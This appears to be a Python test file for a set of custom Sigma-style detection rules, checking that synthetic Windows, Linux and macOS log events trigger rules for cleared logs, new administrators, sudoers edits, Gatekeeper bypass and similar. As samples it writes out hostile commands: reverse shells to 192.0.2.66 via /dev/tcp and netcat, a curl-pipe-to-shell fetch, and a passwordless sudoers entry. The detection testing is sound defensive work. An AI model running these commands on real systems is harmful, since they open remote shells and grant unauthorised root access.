"""Our own examples: each is met by what it is about, and by nothing that is recorded of ordinary days."""

from __future__ import annotations

import base64

import pytest
import yaml
from watch_sigma import OWN, everything, executed, linux_line, macos_line, own_rules, windows_event

from store.rows import StoredEvent

RULES = own_rules()
SUDO = "   alice : TTY=ttys001 ; PWD=/Users/alice ; USER=root ; COMMAND="
SERVICES = "Service Control Manager"

MET = {
    "An event log of Windows was cleared": [
        windows_event(1102, "Microsoft-Windows-Eventlog", SubjectUserName="alice"),
        windows_event(104, "Microsoft-Windows-Eventlog", SubjectUserName="alice", Channel="System"),
    ],
    "A service was installed from where anybody may write": [
        windows_event(7045, SERVICES, ServiceName="x", ImagePath=r"C:\Users\Public\u.exe"),
        windows_event(7045, SERVICES, ServiceName="x", ImagePath=r"powershell -File C:\ProgramData\a b\x.ps1"),
        windows_event(4697, ServiceName="x", ServiceFileName="%COMSPEC% /c echo x"),
    ],
    "Somebody was made an administrator": [
        windows_event(4732, MemberSid="S-1-5-21-1-2-3-1104", TargetSid="S-1-5-32-544", SubjectUserName="alice"),
        windows_event(4728, MemberSid="S-1-5-21-1-2-3-1104", TargetSid="S-1-5-21-1-2-3-512", SubjectUserName="alice"),
    ],
    "PowerShell was started with an encoded command": [
        windows_event(
            4688, NewProcessName=r"C:\W\powershell.exe", ParentProcessName=r"C:\W\explorer.exe",
            CommandLine=f"powershell -e {'QUJD' * 10}=",
        ),
        windows_event(
            4688, NewProcessName=r"C:\W\pwsh.exe", ParentProcessName=r"C:\W\explorer.exe",
            CommandLine="pwsh $x='" + base64.b64encode("ab IEX $a".encode("utf-16-le")).decode() + "'",
        ),
    ],
    "The rules of sudo were changed": [
        executed("sh", "-c", "echo 'bob ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers.d/bob"),
        linux_line("Mar  2 09:16:02 h sudo: anna : TTY=tty1 ; PWD=/ ; USER=root ; COMMAND=/bin/tee -a /etc/sudoers"),
    ],
    "Keys that may log in by SSH were changed": [
        executed("tee", "-a", "/root/.ssh/authorized_keys"),
    ],
    "A shell was connected to another machine": [
        executed("bash", "-c", "bash -i >& /dev/tcp/192.0.2.66/4444 0>&1"),
        executed("nc", "-e", "/bin/sh", "192.0.2.66", "4444"),
    ],
    "A module was loaded into the kernel by hand": [executed("insmod", "/tmp/x.ko", exe="/usr/sbin/insmod", uid="0")],
    "root logged in by SSH with a password, from elsewhere": [
        linux_line("Mar  2 09:16:02 h sshd[7]: Accepted password for root from 203.0.113.9 port 55112 ssh2"),
    ],
    "Something was put where macOS starts it by itself": [
        macos_line("sudo", f"{SUDO}/bin/cp x.plist /Library/LaunchDaemons/com.example.x.plist"),
        macos_line("sudo", f"{SUDO}/bin/launchctl load /tmp/x.plist"),
    ],
    "Gatekeeper was switched off, or passed by": [
        macos_line("sudo", f"{SUDO}/usr/sbin/spctl --master-disable"),
        macos_line("sudo", f"{SUDO}/usr/bin/xattr -r -d com.apple.quarantine /Applications/X.app"),
        macos_line("sudo", f'{SUDO}/usr/bin/osascript -e do shell script "curl -s http://192.0.2.66/x | sh"'),
    ],
    "Passwords of Windows are guessed from one address": [],
}  # fmt: skip
QUIET = [
    windows_event(7045, SERVICES, ServiceName="x", ImagePath=r"C:\Program Files\x.exe"),
    windows_event(4732, MemberSid="S-1-5-21-1-2-3-1104", TargetSid="S-1-5-32-545", SubjectUserName="alice"),
    windows_event(4732, MemberSid="S-1-5-21-1-2-3-1104", TargetSid="S-1-5-32-544", SubjectUserName="WIN-01$"),
    windows_event(
        4688, NewProcessName=r"C:\W\powershell.exe", CommandLine="powershell -ExecutionPolicy Bypass -File a"
    ),
    executed("cat", "/etc/sudoers"),
    executed("cat", "/root/.ssh/authorized_keys"),
    executed("bash", "-c", "ls /dev"),
    linux_line("Mar  2 09:16:02 h sshd[7]: Accepted password for root from 192.168.1.9 port 55112 ssh2"),
    linux_line("Mar  2 09:16:02 h sshd[7]: Accepted publickey for root from 203.0.113.9 port 55112 ssh2"),
    macos_line("sudo", f"{SUDO}/usr/sbin/spctl --status"),
]


@pytest.mark.parametrize(
    ("title", "event"), [(title, event) for title, events in MET.items() for event in events],
    ids=[f"{title} {number}" for title, events in MET.items() for number, _ in enumerate(events)],
)  # fmt: skip
def test_an_example_is_met_by_what_it_is_about(title: str, event: StoredEvent) -> None:
    assert title in [rule.title for rule in RULES.match(event)]


@pytest.mark.parametrize("event", QUIET, ids=lambda event: event.raw_message[20:90])
def test_what_is_usual_meets_no_example(event: StoredEvent) -> None:
    assert RULES.match(event) == []


def test_passwords_guessed_from_one_address_are_counted() -> None:
    rules = own_rules()
    events = [windows_event(4625, TargetUserName=f"u{n}", LogonType="3", IpAddress="192.0.2.9") for n in range(10)]
    found = [[rule.title for rule in rules.match(event)] for event in events]
    assert found == [[]] * 9 + [["Passwords of Windows are guessed from one address"]]


def test_every_example_is_tested_has_an_id_and_says_what_it_is_about() -> None:
    documents = [one for path in OWN.glob("*.yml") for one in yaml.safe_load_all(path.read_text())]
    counted = {"A login to Windows failed"}
    assert {one["title"] for one in documents} - counted == set(MET)
    assert len({one["id"] for one in documents}) == len(documents)
    assert all(one["description"] and one["level"] for one in documents)


def test_of_what_is_recorded_they_find_what_is_there() -> None:
    found = {rule.title for event in everything() for rule in RULES.match(event)}
    assert found == {
        "An event log of Windows was cleared", "A service was installed from where anybody may write",
        "Somebody was made an administrator", "root logged in by SSH with a password, from elsewhere",
    }  # fmt: skip
